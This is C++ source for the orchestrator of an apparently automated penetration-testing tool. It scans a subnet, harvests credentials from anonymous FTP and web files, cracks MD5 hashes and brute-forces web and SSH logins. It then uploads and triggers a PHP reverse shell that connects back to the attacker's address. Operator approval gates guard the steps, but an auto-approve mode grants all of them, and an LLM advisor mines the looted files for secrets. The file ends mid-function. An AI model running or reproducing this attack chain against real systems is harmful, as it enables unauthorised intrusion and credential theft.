#include "orchestrator.hpp"

#include <algorithm>
#include <fstream>
#include <regex>
#include <sstream>

#include <fmt/format.h>

#include "pentestxx/common/error.hpp"
#include "pentestxx/common/strings.hpp"
#include "pentestxx/payloads/payloads.hpp"
#include "pentestxx/toolio/builders.hpp"
#include "pentestxx/toolio/table.hpp"
#include "pentestxx/toolio/wordlist.hpp"

namespace pentestxx::engine {

namespace fs = std::filesystem;
using nlohmann::json;
using toolio::CommandSpec;
using toolio::ToolOutput;

namespace {

constexpr std::size_t kStdoutCap = 16 * 1024;
constexpr std::size_t kStderrCap = 2 * 1024;
constexpr int kMaxCrawl = 10;
constexpr int kMaxScopePrompts = 10;

std::string read_text(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  if (!in) throw Error(ErrorCode::io_error, "cannot read " + p.string());
  std::ostringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

void write_text(const fs::path& p, std::string_view text) {
  std::error_code ec;
  fs::create_directories(p.parent_path(), ec);
  std::ofstream out(p, std::ios::binary | std::ios::trunc);
  if (!out) throw Error(ErrorCode::io_error, "cannot write " + p.string());
  out << text;
}

bool is_private_key(std::string_view content) {
  return content.find("-----BEGIN") != std::string_view::npos && content.find("PRIVATE KEY-----") != std::string_view::npos;
}

bool looks_not_found(std::string_view page) {
  return icontains(page, "404 Not Found") || icontains(page, "<h1>Not Found</h1>");
}

bool notable_extension(std::string_view url) {
  static const std::vector<std::string> exts{".yml", ".yaml", ".txt", ".conf", ".ini", ".env", ".bak",
                                             ".sql", ".xml",  ".json", ".log", ".zip", ".key", ".pem"};
  auto q = url.find_first_of("?#");
  auto path = lower(url.substr(0, q));
  return std::any_of(exts.begin(), exts.end(), [&](const std::string& e) { return path.ends_with(e); });
}

std::string url_path(std::string_view url) {
  auto origin = toolio::url_origin(url);
  auto rest = std::string(url.substr(origin.size()));
  return rest.empty() ? "/" : rest;
}

std::string last_segment(std::string_view url) {
  auto p = url_path(url);
  auto q = p.find_first_of("?#");
  if (q != std::string::npos) p.resize(q);
  while (p.size() > 1 && p.ends_with('/')) p.pop_back();
  auto slash = p.rfind('/');
  return slash == std::string::npos ? p : p.substr(slash + 1);
}

// Text between <pre> and </pre>, or the whole page.
std::string pre_block(std::string_view page) {
  auto b = page.find("<pre>");
  auto e = page.find("</pre>");
  if (b == std::string_view::npos || e == std::string_view::npos || e < b) return std::string(page);
  return std::string(page.substr(b + 5, e - b - 5));
}

std::string shell_user(std::string_view banner) {
  static const std::regex prompt_re(R"(([a-z_][a-z0-9_-]*)@[\w.-]+:)");
  std::string user;
  std::string text(banner);
  for (auto it = std::sregex_iterator(text.begin(), text.end(), prompt_re); it != std::sregex_iterator(); ++it) {
    user = (*it)[1].str();
  }
  return user;
}

std::string id_user(std::string_view id_line) {
  static const std::regex uid_re(R"(uid=\d+\(([^)]+)\))");
  std::string text(id_line);
  std::smatch m;
  return std::regex_search(text, m, uid_re) ? m[1].str() : std::string{};
}

std::string octal(fs::perms p) { return fmt::format("{:04o}", static_cast<unsigned>(p & fs::perms::mask)); }

json port_json(const toolio::PortFinding& p) {
  return {{"port", p.port},
          {"protocol", toolio::to_string(p.protocol)},
          {"status", toolio::to_string(p.status)},
          {"service", p.service},
          {"version", p.version}};
}

}  // namespace

// -- credential store -----------------------------------------------------------

namespace {
template <typename T>
bool push_unique(std::vector<T>& v, const T& x) {
  if (std::find(v.begin(), v.end(), x) != v.end()) return false;
  v.push_back(x);
  return true;
}
}  // namespace

bool CredentialStore::add_username(const std::string& name) {
  if (name.empty() || !push_unique(usernames_, name)) return false;
  ++version_;
  return true;
}

bool CredentialStore::add_system_user(const std::string& name, bool is_root) {
  if (name.empty() || !push_unique(is_root ? root_users_ : system_users_, name)) return false;
  ++version_;
  return true;
}

bool CredentialStore::add_password(const std::string& secret) {
  if (secret.empty() || !push_unique(passwords_, secret)) return false;
  ++version_;
  return true;
}

bool CredentialStore::add_pair(const std::string& user, const std::string& secret) {
  if (user.empty() || secret.empty() || !push_unique(pairs_, {user, secret})) return false;
  ++version_;
  return true;
}

bool CredentialStore::add_key(const fs::path& key) {
  if (!push_unique(keys_, key)) return false;
  ++version_;
  return true;
}

std::vector<std::string> CredentialStore::login_candidates() const {
  std::vector<std::string> out;
  for (const auto* list : {&system_users_, &root_users_, &usernames_}) {
    for (const auto& u : *list) push_unique(out, u);
  }
  return out;
}

// -- plumbing -------------------------------------------------------------------

std::size_t Orchestrator::Gate::choice() const {
  const auto& p = decision.params;
  if (p.is_object() && p.contains("choice") && p["choice"].is_number_integer() && p["choice"].get<std::int64_t>() >= 0) {
    return p["choice"].get<std::size_t>();
  }
  return 0;
}

Orchestrator::Orchestrator(Session& s) : s_(s), ws_(s.workspace()) {}

Event Orchestrator::emit(std::string kind, json payload) {
  return s_.events_.append(phase_, std::move(kind), std::move(payload));
}

void Orchestrator::set_phase(Phase p) {
  {
    std::lock_guard lock(s_.mu_);
    s_.phase_ = p;
  }
  phase_ = p;
  emit("phase_changed", {{"phase", to_string(p)}});
}

void Orchestrator::check_cancelled() const {
  if (s_.cancelled_) throw Error(ErrorCode::cancelled, "session cancelled");
}

Orchestrator::Gate Orchestrator::gate(std::string kind, std::string description, std::string preview,
                                      std::vector<std::string> options) {
  check_cancelled();
  ApprovalRequest req{"", std::move(kind), std::move(description), std::move(preview), std::move(options)};
  Gate g;
  g.id = s_.approvals_.open(req);
  req.id = g.id;
  emit("approval_requested", to_json(req));
  g.decision = s_.approvals_.wait(g.id);
  emit("approval_decided", {{"approval_id", g.id},
                            {"decision", g.decision.granted ? "grant" : "deny"},
                            {"source", to_string(g.decision.source)},
                            {"params", g.decision.params}});
  return g;
}

std::optional<ToolOutput> Orchestrator::run_command(const CommandSpec& cmd, const std::string& description) {
  check_cancelled();
  const auto line = cmd.display_line();
  json approval = nullptr;
  if (cmd.gate_required) {
    auto g = gate("command", description.empty() ? "Run " + cmd.program : description, line);
    if (!g.granted()) {
      emit("step_skipped", {{"display_line", line}, {"approval_id", g.id}, {"reason", "denied by operator"}});
      notes_.push_back("Skipped (denied): " + line);
      return std::nullopt;
    }
    approval = g.id;
  }
  emit("command_started", {{"program", cmd.program},
                           {"args", cmd.args},
                           {"display_line", line},
                           {"gate_required", cmd.gate_required},
                           {"approval_id", approval}});
  ToolOutput out;
  try {
    out = s_.backend_->run(cmd);
  } catch (const Error& e) {
    if (e.code() == ErrorCode::cancelled) throw;
    last_step_ = emit("command_failed", {{"display_line", line}, {"code", to_string(e.code())}, {"error", e.what()}}).seq;
    return std::nullopt;
  }
  json payload{{"display_line", line}, {"exit_status", out.exit_status}, {"duration_seconds", out.duration_seconds}};
  payload["stdout"] = out.stdout_text.size() > kStdoutCap ? out.stdout_text.substr(0, kStdoutCap) : out.stdout_text;
  payload["stdout_truncated"] = out.stdout_text.size() > kStdoutCap;
  payload["stderr"] = out.stderr_text.substr(0, kStderrCap);
  last_step_ = emit("command_finished", std::move(payload)).seq;
  return out;
}

void Orchestrator::add_finding(FindingKind kind, json value) {
  Finding f{kind, std::move(value), last_step_, target_};
  auto key = comparable(f).dump();
  std::lock_guard lock(s_.mu_);
  if (!finding_keys_.insert(key).second) return;
  s_.findings_.push_back(f);
  auto payload = to_json(f);
  payload["index"] = s_.findings_.size() - 1;
  emit("finding", std::move(payload));
}

void Orchestrator::table(const std::string& title, const std::string& text) {
  emit("table", {{"title", title}, {"text", text}});
}

void Orchestrator::note(const std::string& text) {
  notes_.push_back(text);
  emit("note", {{"text", text}});
}

std::string Orchestrator::rel(const fs::path& p) const { return p.lexically_relative(ws_).generic_string(); }

fs::path Orchestrator::loot_dir(const std::string& sub) const {
  auto d = ws_ / "loot" / target_.to_string() / sub;
  fs::create_directories(d);
  return d;
}

// -- session flow ---------------------------------------------------------------

void Orchestrator::run() {
  SessionStatus final_status = SessionStatus::completed;
  std::string error;
  try {
    emit("session_started", {{"session_id", s_.id_}, {"config", to_json(s_.config_)}, {"backend", s_.backend_->name()},
                             {"advisor", s_.advisor_->name()}, {"workspace", ws_.string()}});
    if (s_.config_.auto_approve) {
      emit("warning", {{"message", "auto-approve is on: every gate is granted without operator review"}});
    }
    if (!recon()) {
      final_status = SessionStatus::no_targets;
    } else {
      if (s_.target_) {
        set_phase(Phase::scan_enum);
        auto ports = scan_enum();
        if (!ports.empty()) {
          set_phase(Phase::gaining_access);
          gaining_access(ports);
        }
      }
      set_phase(Phase::reporting);
      reporting();
    }
  } catch (const Error& e) {
    final_status = e.code() == ErrorCode::cancelled ? SessionStatus::cancelled : SessionStatus::failed;
    error = e.what();
    emit("error", {{"code", to_string(e.code())}, {"message", e.what()}});
  } catch (const std::exception& e) {
    final_status = SessionStatus::failed;
    error = e.what();
    emit("error", {{"code", "internal"}, {"message", e.what()}});
  }
  {
    std::lock_guard lock(s_.mu_);
    s_.status_ = final_status;
    s_.error_ = error;
  }
  if (final_status == SessionStatus::completed) set_phase(Phase::done);
  emit("session_finished", {{"status", to_string(final_status)}, {"shell", shell_}});
  s_.events_.close();
}

bool Orchestrator::recon() {
  const auto& cfg = s_.config_;
  auto hints = s_.backend_->network_hints();
  std::vector<netcalc::InterfaceAddress> ifaces;
  if (!cfg.scope && !hints.subnet) ifaces = netcalc::detect_interfaces();

  attacker_ = hints.attacker_ip;
  if (!attacker_ && !ifaces.empty()) attacker_ = ifaces.front().address;
  if (!attacker_ && s_.backend_->name() == "live") {
    auto found = netcalc::detect_interfaces();
    if (!found.empty()) attacker_ = found.front().address;
  }

  std::string candidate;
  if (cfg.scope) candidate = *cfg.scope;
  else if (hints.subnet) candidate = hints.subnet->to_string();
  else if (!ifaces.empty()) candidate = ifaces.front().subnet.to_string();
  if (candidate.empty() && cfg.auto_approve) throw Error(ErrorCode::no_scope, "no subnet given and none detected");

  std::optional<netcalc::SubnetSpec> subnet;
  for (int i = 0; i < kMaxScopePrompts && !subnet; ++i) {
    std::optional<netcalc::SubnetSpec> proposed;
    if (!candidate.empty()) {
      try {
        proposed = netcalc::parse_cidr(candidate);
      } catch (const Error& e) {
        emit("warning", {{"message", fmt::format("invalid subnet '{}': {}", candidate, e.what())}});
      }
    }
    auto preview = proposed ? toolio::build_ping_scan(*proposed).display_line() : std::string("(no subnet; supply params.cidr)");
    auto g = gate("confirm_subnet", proposed ? "Confirm the subnet to scan" : "Enter the subnet to scan", preview);
    std::string override;
    if (g.decision.params.is_object() && g.decision.params.contains("cidr") && g.decision.params["cidr"].is_string()) {
      override = g.decision.params["cidr"].get<std::string>();
    }
    if (!g.granted() && override.empty()) {
      note("Operator declined the scan scope");
      return false;
    }
    if (!override.empty() && override != candidate) {
      candidate = override;
      if (!g.granted()) continue;  // re-prompt with the new subnet
      try {
        proposed = netcalc::parse_cidr(candidate);
      } catch (const Error& e) {
        emit("warning", {{"message", fmt::format("invalid subnet '{}': {}", candidate, e.what())}});
        proposed.reset();
      }
    }
    subnet = proposed;
  }
  if (!subnet) {
    if (cfg.auto_approve) throw Error(ErrorCode::no_scope, "no usable subnet");
    note("No usable subnet was confirmed");
    return false;
  }
  scope_text_ = subnet->to_string();
  {
    std::lock_guard lock(s_.mu_);
    s_.scope_ = scope_text_;
    s_.attacker_ip_ = attacker_;
  }
  emit("scope_confirmed", {{"cidr", scope_text_}, {"attacker_ip", attacker_ ? json(attacker_->to_string()) : json(nullptr)}});

  auto ping = toolio::build_ping_scan(*subnet);
  auto out = run_command(ping);
  if (!out || !out->ok()) throw Error(ErrorCode::scan_failed, "host discovery failed: " + ping.display_line());
  raw_.push_back({ping.display_line(), out->stdout_text});
  auto parsed = toolio::parse_ping_scan(*out);
  if (!parsed.diagnostics.empty()) emit("parse_diagnostics", {{"parser", "ping_scan"}, {"diagnostics", parsed.diagnostics}});

  auto gateway = hints.gateway_ip ? *hints.gateway_ip : netcalc::default_gateway_guess(*subnet);
  std::vector<Ipv4> exclusions = cfg.excluded_ips;
  exclusions.push_back(gateway);
  if (hints.dhcp_ip) exclusions.push_back(*hints.dhcp_ip);

  auto hosts = parsed.items;
  for (auto& h : hosts) {
    if (attacker_ && h.ip == *attacker_) h.role = netcalc::HostRole::attacker_self;
    else if (h.ip == gateway) h.role = netcalc::HostRole::default_gateway;
    else if (hints.dhcp_ip && h.ip == *hints.dhcp_ip) h.role = netcalc::HostRole::dhcp_server;
    else if (std::find(cfg.excluded_ips.begin(), cfg.excluded_ips.end(), h.ip) != cfg.excluded_ips.end())
      h.role = netcalc::HostRole::excluded;
  }
  {
    std::lock_guard lock(s_.mu_);
    s_.hosts_ = hosts;
  }
  json host_list = json::array();
  std::vector<std::vector<std::string>> rows;
  for (const auto& h : hosts) {
    host_list.push_back({{"ip", h.ip.to_string()}, {"role", netcalc::to_string(h.role)}});
    rows.push_back({h.ip.to_string(), netcalc::to_string(h.role)});
  }
  emit("hosts", {{"hosts", host_list}});
  table("Live hosts", toolio::render_table({"IP", "ROLE"}, rows));

  auto targets = netcalc::filter_infrastructure(hosts, exclusions);
  for (const auto& t : targets) {
    target_ = t.ip;
    add_finding(FindingKind::live_host, {{"ip", t.ip.to_string()}, {"role", netcalc::to_string(t.role)}});
  }
  target_ = Ipv4{};
  if (targets.empty()) {
    emit("no_targets", {{"cidr", scope_text_}, {"message", "no candidate targets after removing infrastructure"}});
    return false;
  }

  std::vector<std::string> options;
  for (const auto& t : targets) options.push_back(t.ip.to_string());
  if (cfg.target) {
    auto it = std::find(options.begin(), options.end(), cfg.target->to_string());
    if (it == options.end()) {
      emit("no_targets", {{"cidr", scope_text_}, {"message", "requested target " + cfg.target->to_string() + " is not a live candidate"}});
      return false;
    }
    std::rotate(options.begin(), it, it + 1);
  }
  auto g = gate("select_target", "Select the target host", "target " + options.front(), options);
  if (!g.granted()) {
    note("Operator declined target selection; no host was attacked");
    return true;
  }
  auto choice = g.choice();
  if (choice >= options.size()) choice = 0;
  target_ = Ipv4::parse(options[choice]);
  {
    std::lock_guard lock(s_.mu_);
    s_.target_ = target_;
  }
  emit("target_selected", {{"ip", target_.to_string()}});
  return true;
}

std::vector<toolio::PortFinding> Orchestrator::scan_enum() {
  auto scan = toolio::build_full_scan(target_.to_string());
  auto out = run_command(scan);
  if (!out) {
    note("Port scan did not run");
    return {};
  }
  raw_.push_back({scan.display_line(), out->stdout_text});
  if (toolio::full_scan_host_down(*out)) {
    note("Target " + target_.to_string() + " did not answer the port scan");
    return {};
  }
  auto parsed = toolio::parse_full_scan(*out);
  if (!parsed.diagnostics.empty()) emit("parse_diagnostics", {{"parser", "full_scan"}, {"diagnostics", parsed.diagnostics}});
  std::vector<toolio::PortFinding> open;
  for (const auto& p : parsed.items) {
    if (p.status != toolio::PortStatus::open) continue;
    open.push_back(p);
    add_finding(FindingKind::port, port_json(p));
  }
  table("Open ports on " + target_.to_string(), toolio::render_port_table(open));
  if (open.empty()) {
    note("No open ports on " + target_.to_string());
    return {};
  }
  auto g = gate("proceed", "Proceed to exploitation",
                fmt::format("attempt exploitation of {} open port(s) on {}", open.size(), target_.to_string()));
  if (!g.granted()) {
    note("Operator stopped before exploitation");
    return {};
  }
  return open;
}

void Orchestrator::gaining_access(const std::vector<toolio::PortFinding>& ports) {
  auto sorted = ports;
  std::sort(sorted.begin(), sorted.end(), [](const auto& a, const auto& b) { return a.port < b.port; });
  std::optional<int> ssh_port;
  for (const auto& p : sorted) {
    auto plan = dispatch_vector(p);
    if (plan.kind == VectorKind::ssh && !ssh_port) ssh_port = p.port;
    if (shell_) {
      emit("vector_skipped", {{"vector", to_string(plan.kind)}, {"port", p.port}, {"reason", "shell already obtained"}});
      continue;
    }
    run_vector(plan);
  }
  // Material found later in the pass may open a service visited earlier.
  for (int round = 0; round < 5 && !shell_ && ssh_port && creds_.version() != ssh_seen_version_; ++round) {
    run_vector({VectorKind::ssh, *ssh_port, "revisit with new credential material"});
  }
  if (!shell_ && ssh_port) {
    emit("vector_started", {{"vector", "ssh_vector"}, {"port", *ssh_port}, {"strategy", "hydra"}});
    try {
      hydra_fallback(*ssh_port);
    } catch (const Error& e) {
      if (e.code() == ErrorCode::cancelled) throw;
      emit("vector_failed", {{"vector", "ssh_vector"}, {"port", *ssh_port}, {"code", to_string(e.code())}, {"error", e.what()}});
    }
    emit("vector_finished", {{"vector", "ssh_vector"}, {"port", *ssh_port}, {"shell", shell_}});
  }
  if (!shell_) {
    emit("strategies_exhausted", {{"target", target_.to_string()}});
    notes_.push_back("All strategies were exhausted without obtaining a shell on " + target_.to_string());
  }
}

void Orchestrator::run_vector(const VectorPlan& plan) {
  json start{{"vector", to_string(plan.kind)}, {"port", plan.port}};
  if (!plan.note.empty()) start["note"] = plan.note;
  emit("vector_started", start);
  try {
    switch (plan.kind) {
      case VectorKind::ftp: ftp_vector(plan.port); break;
      case VectorKind::http80: web_vector(plan.port, plan.port == 80 ? "http://" + target_.to_string()
                                                                     : fmt::format("http://{}:{}", target_.to_string(), plan.port)); break;
      case VectorKind::http8080: http8080_vector(plan.port); break;
      case VectorKind::nfs: nfs_vector(plan.port); break;
      case VectorKind::ssh: ssh_vector(plan.port); break;
      case VectorKind::proxy:
      case VectorKind::noop: note(fmt::format("Port {}: {}", plan.port, plan.note.empty() ? "no vector" : plan.note)); break;
    }
  } catch (const Error& e) {
    if (e.code() == ErrorCode::cancelled) throw;
    emit("vector_failed", {{"vector", to_string(plan.kind)}, {"port", plan.port}, {"code", to_string(e.code())}, {"error", e.what()}});
  }
  emit("vector_finished", {{"vector", to_string(plan.kind)}, {"port", plan.port}, {"shell", shell_}});
}

// -- shared steps ---------------------------------------------------------------

void Orchestrator::record_artifact(const std::string& name, const fs::path& local, const std::string& content,
                                   const std::string& source, const std::string& remote) {
  json hits = json::array();
  if (!is_private_key(content)) {
    for (const auto& h : advisor::scan_for_keywords(content, advisor::default_keywords())) {
      hits.push_back({{"keyword", h.keyword}, {"line", h.line_number}, {"text", std::string(trim(h.line))}});
    }
  }
  add_finding(FindingKind::artifact_file, {{"name", name},
                                           {"path", rel(local)},
                                           {"source", source},
                                           {"remote", remote},
                                           {"size", content.size()},
                                           {"sensitive_hits", hits}});
}

void Orchestrator::analyze_artifact(const std::string& name, const std::string& content, const std::string& source) {
  if (content.empty()) return;
  if (is_private_key(content)) {
    emit("advisor_skipped", {{"artifact", name}, {"reason", "private key material is never sent to the advisor"}});
    return;
  }
  advisor::PromptContext ctx{target_.to_string(), attacker_ ? attacker_->to_string() : "unknown", to_string(phase_)};
  auto env = advisor::build_analysis_prompt(name, content, ctx);
  emit("advisor_request", {{"artifact", name}, {"advisor", s_.advisor_->name()}, {"purpose", advisor::to_string(env.purpose)}});
  auto advice = s_.advisor_->analyze(env);
  json found = json::array();
  std::vector<std::vector<std::string>> rows;
  for (const auto& f : advice.findings) {
    found.push_back({{"kind", advisor::to_string(f.kind)}, {"value", f.value}, {"note", f.note}});
    rows.push_back({advisor::to_string(f.kind), f.value.size() > 60 ? f.value.substr(0, 57) + "..." : f.value, f.note});
  }
  last_step_ = emit("advisor_response", {{"artifact", name},
                                         {"findings", found},
                                         {"recommended_actions", advice.recommended_actions},
                                         {"diagnostics", advice.diagnostics}})
                   .seq;
  if (!rows.empty()) table("Advisor findings: " + name, toolio::render_table({"KIND", "VALUE", "NOTE"}, rows));

  std::vector<std::string> users, secrets, hashes;
  for (const auto& f : advice.findings) {
    using advisor::FindingKind;
    switch (f.kind) {
      case FindingKind::hash:
        add_finding(engine::FindingKind::hash, {{"hash", lower(f.value)}, {"algorithm", "md5"}, {"source", source}});
        hashes.push_back(f.value);
        break;
      case FindingKind::credential:
        add_finding(engine::FindingKind::credential, {{"secret", f.value}, {"kind", "plaintext"}, {"source", source}, {"field", f.note}});
        creds_.add_password(f.value);
        secrets.push_back(f.value);
        break;
      case FindingKind::username:
        add_finding(engine::FindingKind::username, {{"username", f.value}, {"source", source}, {"field", f.note}});
        creds_.add_username(f.value);
        users.push_back(f.value);
        break;
      case FindingKind::identifier:
        if (icontains(f.note, "regno") || icontains(f.note, "user") || icontains(f.note, "login")) {
          add_finding(engine::FindingKind::username, {{"username", f.value}, {"source", source}, {"field", f.note}});
          creds_.add_username(f.value);
          users.push_back(f.value);
        } else {
          add_finding(engine::FindingKind::vulnerability,
                      {{"title", "Exposed identifier (" + f.note + ")"}, {"detail", f.value}, {"source", source}, {"deferred", true}});
        }
        break;
      case FindingKind::sql_statement:
        add_finding(engine::FindingKind::vulnerability,
                    {{"title", "SQL statement disclosed"}, {"detail", f.value}, {"source", source}, {"deferred", true}});
        break;
      case FindingKind::vulnerability:
        add_finding(engine::FindingKind::vulnerability, {{"title", f.note.empty() ? f.value : f.note}, {"detail", f.value}, {"source", source}});
        break;
    }
  }
  for (const auto& u : users) {
    for (const auto& p : secrets) creds_.add_pair(u, p);
  }
  for (const auto& h : hashes) crack_hash(h, source);
}

std::optional<std::pair<fs::path, long long>> Orchestrator::choose_wordlist(const std::string& purpose) {
  std::vector<fs::path> lists;
  std::error_code ec;
  for (const auto& e : fs::directory_iterator(s_.config_.wordlist_dir, ec)) {
    if (e.is_regular_file() && e.path().extension() == ".txt") lists.push_back(e.path());
  }
  std::sort(lists.begin(), lists.end());
  if (lists.empty()) {
    note("No password wordlist found in " + s_.config_.wordlist_dir.string());
    return std::nullopt;
  }
  std::vector<std::string> options;
  std::vector<long long> counts;
  for (const auto& l : lists) {
    counts.push_back(toolio::count_wordlist_entries(l));
    options.push_back(fmt::format("{} ({} entries)", l.filename().string(), counts.back()));
  }
  auto g = gate("select_wordlist", "Choose a wordlist for " + purpose, options.front(), options);
  if (!g.granted()) {
    note("Operator declined wordlist selection for " + purpose);
    return std::nullopt;
  }
  auto i = std::min(g.choice(), lists.size() - 1);
  return std::make_pair(lists[i], counts[i]);
}

void Orchestrator::crack_hash(const std::string& hash, const std::string& source) {
  std::string h;
  try {
    h = toolio::normalize_md5(hash);
  } catch (const Error&) {
    note("Hash from " + source + " is not MD5-shaped; not cracked");
    return;
  }
  auto wl = choose_wordlist("hash " + h);
  if (!wl) return;
  auto out = run_command(toolio::build_hash_crack(h, wl->first), "Crack MD5 hash from " + source);
  if (!out) return;
  auto r = toolio::parse_crack_result(*out, h, {wl->first.filename().string(), wl->second});
  if (!r.plaintext) {
    note(fmt::format("Hash {} not found in {} ({} candidates)", h, r.wordlist, r.attempts));
    return;
  }
  add_finding(FindingKind::credential, {{"secret", *r.plaintext},
                                        {"kind", "hash_plaintext"},
                                        {"hash", h},
                                        {"wordlist", r.wordlist},
                                        {"attempts", r.attempts}});
  creds_.add_password(*r.plaintext);
}

// -- ftp ------------------------------------------------------------------------

void Orchestrator::ftp_vector(int port) {
  (void)port;
  auto list = run_command(toolio::build_ftp_list(target_, "anonymous", "anonymous"));
  if (!list || !list->ok()) {
    note("Anonymous FTP login refused on " + target_.to_string());
    return;
  }
  add_finding(FindingKind::vulnerability, {{"title", "Anonymous FTP login allowed"}, {"port", 21}, {"service", "ftp"}});
  auto dir = loot_dir("ftp");
  for (const auto& name : toolio::parse_name_list(list->stdout_text)) {
    if (name.ends_with('/')) continue;
    auto got = run_command(toolio::build_ftp_fetch(target_, name, "anonymous", "anonymous"));
    if (!got || !got->ok()) continue;
    auto local = dir / fs::path(name).filename();
    write_text(local, got->stdout_text);
    record_artifact(name, local, got->stdout_text, "ftp", "ftp://" + target_.to_string() + "/" + name);
    analyze_artifact(name, got->stdout_text, "ftp:" + name);
  }
}

// -- web ------------------------------------------------------------------------

void Orchestrator::web_vector(int port, const std::string& base) {
  auto common = s_.config_.wordlist_dir / "dirb" / "common.txt";
  std::vector<std::string> pages{base + "/"};
  std::vector<std::string> dir_urls;
  if (fs::exists(common)) {
    auto scan = toolio::build_dir_scan(base, common);
    auto out = run_command(scan);
    if (out) {
      raw_.push_back({scan.display_line(), out->stdout_text});
      auto parsed = toolio::parse_dir_scan(*out);
      if (!parsed.diagnostics.empty()) emit("parse_diagnostics", {{"parser", "dir_scan"}, {"diagnostics", parsed.diagnostics}});
      for (const auto& hit : parsed.items) {
        if (hit.http_status < 200 || hit.http_status >= 400) continue;
        auto url = toolio::join_url(base, hit.path);
        if (hit.http_status == 301 || hit.http_status == 302) url += "/";
        add_finding(FindingKind::directory, {{"path", hit.path}, {"status", hit.http_status}, {"port", port}, {"url", url}});
        pages.push_back(url);
        if (url.ends_with('/')) dir_urls.push_back(url);
      }
    }
  } else {
    note("Directory wordlist missing: " + common.string());
  }

  std::set<std::string> fetched;
  std::vector<std::pair<std::string, toolio::HtmlForm>> login_forms;
  std::set<std::string> form_keys;
  for (const auto& page : pages) {
    if (shell_) return;
    auto out = run_command(toolio::build_http_get(page));
    if (!out || !out->ok() || looks_not_found(out->stdout_text)) continue;
    for (const auto& link : toolio::extract_links(out->stdout_text)) {
      auto url = toolio::resolve_url(page, link);
      if (toolio::url_origin(url) != base || !notable_extension(url) || !fetched.insert(url).second) continue;
      auto got = run_command(toolio::build_http_get(url, {}, true), "Download " + url);
      if (!got || !got->ok() || looks_not_found(got->stdout_text)) continue;
      auto name = last_segment(url);
      auto local = loot_dir(fmt::format("http{}", port)) / name;
      write_text(local, got->stdout_text);
      record_artifact(name, local, got->stdout_text, fmt::format("http{}", port), url);
      analyze_artifact(name, got->stdout_text, fmt::format("http{}:{}", port, url_path(url)));
    }
    for (const auto& form : toolio::extract_forms(out->stdout_text)) {
      if (!form.is_login_form()) continue;
      auto action = toolio::resolve_url(page, form.action.empty() ? page : form.action);
      if (form_keys.insert(action).second) login_forms.emplace_back(page, form);
    }
  }
  for (const auto& [page, form] : login_forms) {
    if (shell_) return;
    try_web_login(page, form, base, port, dir_urls);
  }
}

bool Orchestrator::try_web_login(const std::string& page_url, const toolio::HtmlForm& form, const std::string& base,
                                 int port, const std::vector<std::string>& dir_urls) {
  auto action = toolio::resolve_url(page_url, form.action.empty() ? page_url : form.action);
  std::string user_field, pass_field;
  for (const auto& in : form.inputs) {
    if (in.type == "password" && pass_field.empty()) pass_field = in.name;
    else if ((in.type == "text" || in.type == "email") && user_field.empty()) user_field = in.name;
  }
  if (user_field.empty() || pass_field.empty()) return false;

  std::vector<std::pair<std::string, std::string>> candidates = creds_.pairs();
  for (const auto& u : creds_.usernames()) {
    for (const auto& p : creds_.passwords()) {
      if (std::find(candidates.begin(), candidates.end(), std::pair{u, p}) == candidates.end()) candidates.emplace_back(u, p);
    }
  }
  if (candidates.empty()) {
    note("No credentials to try against the login form at " + action);
    return false;
  }
  auto jar = ws_ / "cookies" / fmt::format("{}_{}.jar", target_.to_string(), port);
  fs::create_directories(jar.parent_path());
  toolio::HttpOptions opts{jar, 10};
  for (const auto& [user, pass] : candidates) {
    if (!tried_.insert("web|" + action + "|" + user + "|" + pass).second) continue;
    auto data = user_field + "=" + toolio::url_encode(user) + "&" + pass_field + "=" + toolio::url_encode(pass);
    auto out = run_command(toolio::build_http_post_form(action, data, opts), "Log in to " + action + " as " + user);
    if (!out || !out->ok() || out->stdout_text.empty() || looks_not_found(out->stdout_text)) continue;
    auto forms = toolio::extract_forms(out->stdout_text);
    if (std::any_of(forms.begin(), forms.end(), [](const auto& f) { return f.is_login_form(); })) continue;

    emit("web_login", {{"url", action}, {"user", user}});
    add_finding(FindingKind::vulnerability, {{"title", "Web login accepted leaked credentials"}, {"url", url_path(action)}, {"user", user}, {"port", port}});
    creds_.add_pair(user, pass);

    // Look around the authenticated area for an upload form.
    std::vector<std::pair<std::string, std::string>> crawl{{action, out->stdout_text}};
    std::set<std::string> seen{action};
    int budget = kMaxCrawl;
    for (const auto& link : toolio::extract_links(out->stdout_text)) {
      auto url = toolio::resolve_url(action, link);
      if (toolio::url_origin(url) != base || icontains(url, "logout") || !seen.insert(url).second) continue;
      if (budget-- <= 0) break;
      auto got = run_command(toolio::build_http_get(url, opts));
      if (got && got->ok()) crawl.emplace_back(url, got->stdout_text);
    }
    for (const auto& [url, body] : crawl) {
      for (const auto& f : toolio::extract_forms(body)) {
        if (shell_) return true;
        if (f.is_upload_form()) exploit_upload(url, f, jar, dir_urls);
      }
    }
    return true;
  }
  return false;
}

void Orchestrator::exploit_upload(const std::string& page_url, const toolio::HtmlForm& form, const fs::path& jar,
                                  const std::vector<std::string>& dir_urls) {
  if (!attacker_) {
    note("Attacker address unknown; cannot build a reverse shell payload");
    return;
  }
  std::string field;
  for (const auto& in : form.inputs) {
    if (in.type == "file") {
      field = in.name;
      break;
    }
  }
  auto action = toolio::resolve_url(page_url, form.action.empty() ? page_url : form.action);
  const int port = s_.config_.listener_port;
  auto spec = payloads::make_php_reverse_shell(*attacker_, port);
  auto payload = ws_ / "payloads" / spec.filename;
  write_text(payload, spec.body);
  emit("payload_written", {{"path", rel(payload)}, {"attacker_ip", attacker_->to_string()}, {"port", port}, {"filename", spec.filename}});

  auto listener = s_.backend_->listen(port);
  emit("listener_started", {{"port", port}, {"display_line", payloads::make_listener(port).display_line()}});

  toolio::HttpOptions opts{jar, 10};
  auto up = run_command(toolio::build_http_upload(action, field, payload, opts), "Upload reverse shell to " + action);
  if (!up || !up->ok()) return;

  std::vector<std::string> triggers;
  for (const auto& link : toolio::extract_links(up->stdout_text)) {
    auto url = toolio::resolve_url(action, link);
    if (url.ends_with("/" + spec.filename)) push_unique(triggers, url);
  }
  std::vector<std::string> guesses;
  for (const auto& d : dir_urls) guesses.push_back(toolio::join_url(d, spec.filename));
  std::stable_partition(guesses.begin(), guesses.end(), [](const auto& u) { return icontains(u, "upload"); });
  for (const auto& g : guesses) push_unique(triggers, g);
  if (triggers.empty()) {
    note("Upload accepted but no location for the payload was found");
    return;
  }

  toolio::HttpOptions trig{jar, 5};
  for (const auto& url : triggers) {
    auto out = run_command(toolio::build_http_get(url, trig, true), "Trigger payload at " + url);
    if (!out) continue;
    try {
      auto shell = payloads::await_connection(*listener);
